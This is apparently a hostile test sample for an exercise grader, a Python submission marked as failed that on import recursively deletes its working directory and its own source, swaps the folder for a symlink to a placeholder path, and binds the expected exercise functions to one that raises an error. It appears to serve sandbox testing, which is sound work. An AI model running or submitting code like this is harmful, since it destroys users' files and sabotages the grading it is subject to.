# verdict: failed
# exercise: exercise10_linear
# example: deleting itself or its neighbours
# Deletes its own folder and its own sources, and leaves a link in their place.

import os
import shutil
import sys

here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
for path in (here, __file__, sys.argv[0]):
    try:
        os.remove(path)
    except OSError:
        pass
try:
    os.symlink("@OUTSIDE@", here)
except OSError:
    pass


def attack(*_args, **_kwargs):
    raise RuntimeError("there is nothing left")


Linear = Sequential = mlp_gradients = attack
